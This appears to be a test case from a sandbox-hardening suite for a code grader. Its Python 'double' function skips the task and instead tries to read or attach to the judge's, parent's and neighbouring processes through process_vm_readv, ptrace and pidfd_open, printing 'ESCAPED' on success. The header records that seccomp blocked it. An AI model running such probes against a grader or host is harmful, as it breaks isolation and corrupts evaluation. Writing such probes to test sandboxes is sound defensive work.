# attack: reads the memory of the grader and its zygote by the calls that debuggers use
# stopped by: seccomp
# verdict: failed
# exercise: 01_double
# tier: seccomp
import ctypes
import os

READV, PTRACE, PIDFD_OPEN, PIDFD_GETFD = 310, 101, 434, 438  # of x86_64
SEIZE = 0x4206


def double(x):
    call = ctypes.CDLL(None, use_errno=True).syscall
    buffer = ctypes.create_string_buffer(64)
    here = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
    there = (ctypes.c_void_p * 2)(id(double), 64)
    for process in (int("@JUDGE@"), os.getppid(), os.getpid() + 1, os.getpid() - 1):
        if call(READV, process, here, 1, there, 1, 0) > 0:
            print("ESCAPED", "process_vm_readv", process)
        if call(PTRACE, SEIZE, process, 0, 0) == 0:
            print("ESCAPED", "ptrace", process)
        if call(PIDFD_OPEN, process, 0) >= 0:
            print("ESCAPED", "pidfd_open", process)
    return x
